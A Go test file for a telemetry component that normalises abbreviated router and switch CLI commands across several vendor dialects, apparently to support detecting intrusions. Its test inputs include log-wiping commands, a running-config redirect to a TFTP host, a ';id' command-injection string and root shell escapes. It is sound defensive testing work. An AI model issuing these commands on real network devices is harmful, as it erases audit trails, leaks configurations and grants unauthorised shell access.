package cli_test

import (
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"stormglass/internal/telemetry"
	"stormglass/internal/telemetry/cli"
)

// values gives what becomes of a command: its values, then what was typed.
func values(typed string, d cli.Dialect) (commands []string, was string) {
	b := &telemetry.Batch{Kind: telemetry.KindEvent}
	b.Event = append(b.Event, telemetry.Event{})
	cli.Add(b, &b.Event[0].Pairs, typed, d)
	for _, p := range b.PairsOf(b.Event[0].Pairs) {
		switch p.Field.String() {
		case "process.command_line":
			commands = append(commands, p.Text)
		case "stormglass.command.typed":
			was = p.Text
		}
	}
	return commands, was
}

func TestCommands(t *testing.T) {
	for _, c := range []struct {
		dialect     cli.Dialect
		typed, want string // values between bars, then what was typed behind an arrow
	}{
		{cli.IOS, "no logging on", "no logging on"},
		{cli.IOS, " no \t logging  on ", "no logging on"},
		{cli.IOS, "no logg on", "no logging on <- no logg on"},
		{cli.IOS, "no log on", "no log on"}, // login begins so as well
		{cli.IOS, "default logg host 192.0.2.9", "default logging host 192.0.2.9 <- default logg host 192.0.2.9"},
		{cli.IOS, "cle log", "clear logging <- cle log"},
		{cli.IOS, "clear arc log conf", "clear archive log config <- clear arc log conf"},
		{cli.IOS, "conf t", "configure terminal <- conf t"},
		{cli.IOS, "sh run", "show running-config <- sh run"},
		{cli.IOS, "no sh", "no sh"}, // shutdown of an interface
		{cli.IOS, "sh", "sh"},
		{cli.IOS, "CONF T", "configure terminal <- CONF T"},
		{cli.IOS, "no aaa ne", "no aaa new-model <- no aaa ne"},
		{cli.IOS, "no aaa n", "no aaa n"},
		{cli.IOS, "do clear logging", "clear logging <- do clear logging"},
		{cli.IOS, "do do-exec cle log", "clear logging <- do do-exec cle log"},
		{cli.IOS, "!config: no logging on", "no logging on <- !config: no logging on"},
		{cli.IOS, "int tu77", "interface tunnel77 <- int tu77"},
		{cli.IOS, "interface Tunnel77", "interface Tunnel77"},
		{cli.IOS, "show running-config | r tftp://198.51.100.9/x", "show running-config | redirect tftp://198.51.100.9/x <- show running-config | r tftp://198.51.100.9/x"},
		{cli.IOS, "sh run | app tftp://198.51.100.9/x", "show running-config | append tftp://198.51.100.9/x <- sh run | app tftp://198.51.100.9/x"},
		{cli.IOS, "show version | include x", "show version | include x"},
		{cli.IOS, "request platform software package describe file a;id", "request platform software package describe file a;id"},
		{cli.IOS, "req plat soft pack desc fi a ; id", "request platform software package describe file a ; id <- req plat soft pack desc fi a ; id"},
		{cli.IOSXR, "run bash", "run bash | bash"},
		{cli.IOSXR, "admin run  ls", "admin run ls | run ls | ls"},
		{cli.IOSXR, "do clear logging", "clear logging <- do clear logging"},
		{cli.NXOS, "configure terminal ; no logging server 192.0.2.9", "configure terminal ; no logging server 192.0.2.9 | configure terminal | no logging server 192.0.2.9"},
		{cli.NXOS, "conf t ;no  logg server 192.0.2.9;", "configure terminal ; no logging server 192.0.2.9 | configure terminal | no logging server 192.0.2.9 <- conf t ;no logg server 192.0.2.9;"},
		{cli.NXOS, "run bash sudo su", "run bash sudo su"},
		{cli.NXOS, "show running-config | no-more", "show running-config"},
		{cli.NXOS, ";;", ";;"},
		{cli.EOS, "show version | no-more", "show version"},
		{cli.Junos, "run clear  log messages ", "clear log messages <- run clear log messages"},
		{cli.Junos, "top delete system syslog", "delete system syslog <- top delete system syslog"},
		{cli.Junos, "st sh user root", "start shell user root <- st sh user root"},
		{cli.Junos, "show configuration | display set | no-more ", "show configuration | display set"},
		{cli.VRP, "undo  info-c en", "undo info-center enable <- undo info-c en"},
		{cli.VRP, "RESET LOGBUFFER", "RESET LOGBUFFER"},
		{cli.VRP, "reset logb", "reset logbuffer <- reset logb"},
		{cli.VRP, "reset log", "reset log"},
		{cli.Unknown, "show version <cr>", "show version"},
		{cli.Unknown, "sh run", "sh run"},
		{cli.Unknown, "do show clock <cr>", "show clock <- do show clock"},
		{cli.Unknown, "configure terminal ; no logging server 192.0.2.9 <cr>", "configure terminal ; no logging server 192.0.2.9 | configure terminal | no logging server 192.0.2.9"},
		{cli.Unknown, "describe file x;id", "describe file x;id"},
		{cli.Unknown, "run guestshell", "run guestshell | guestshell"},
		{cli.Unknown, "<cr>", "<cr>"},
		{cli.Unknown, "do ", "do"},
		{cli.Unknown, " \t", ""},
	} {
		commands, was := values(c.typed, c.dialect)
		got := strings.Join(commands, " | ")
		if was != "" {
			got += " <- " + was
		}
		if diff := cmp.Diff(c.want, got); diff != "" {
			t.Errorf("%q: -want +got\n%s", c.typed, diff)
		}
	}
}

// TestManyCommands: a line of very many commands is bounded, and is a value as a whole.
func TestManyCommands(t *testing.T) {
	line := strings.Repeat("show clock ; ", 100_000) + "no logging on"
	got, _ := values(line, cli.NXOS)
	if len(got) > 100 || got[0] != line {
		t.Errorf("%d values, the first of %d bytes", len(got), len(got[0]))
	}
}

func FuzzAdd(f *testing.F) {
	for _, s := range []string{"no logg on", "conf t ; no  logg on", "do sh run | r x", "admin run ls", "int tu7", "und inf en", "a ;; b", "top st sh | no-more", "\x00", "!exec: do <cr>"} {
		f.Add(s, uint8(1))
	}
	f.Fuzz(func(t *testing.T, typed string, d uint8) {
		dialect := cli.Dialect(d % 7)
		got, was := values(typed, dialect)
		if len(got) == 0 {
			if strings.TrimFunc(typed, func(r rune) bool { return r <= ' ' }) != "" {
				t.Fatalf("%q is no command", typed)
			}
			return
		}
		if len(got) > 300 {
			t.Fatalf("%q: %d values", typed, len(got))
		}
		for _, s := range append(got, was) {
			if strings.Contains(s, "  ") || strings.TrimFunc(s, unicode.IsControl) != s && strings.ContainsAny(s, "\t\n") || s != strings.Trim(s, " ") {
				t.Fatalf("%q: %q has blanks", typed, s)
			}
		}
		// What a command means means the same.
		again, _ := values(got[0], dialect)
		if diff := cmp.Diff(got, again); diff != "" {
			t.Fatalf("%q: read again -was +is\n%s", typed, diff)
		}
		// No letter that was typed is lost but for those of wrappers, and none but of words written out is added.
		if was == "" && len(got[0]) > len(typed) {
			t.Fatalf("%q became %q, which nobody typed", typed, got[0])
		}
	})
}

func BenchmarkAdd(b *testing.B) {
	batch := &telemetry.Batch{Kind: telemetry.KindEvent}
	batch.Event = append(batch.Event, telemetry.Event{})
	b.ReportAllocs()
	for b.Loop() {
		batch.Pairs = batch.Pairs[:0]
		batch.Event[0].Pairs = telemetry.Span{}
		cli.Add(batch, &batch.Event[0].Pairs, "interface GigabitEthernet0/0/1", cli.IOS)
		cli.Add(batch, &batch.Event[0].Pairs, "configure terminal ; no logging server 192.0.2.9", cli.NXOS)
	}
}
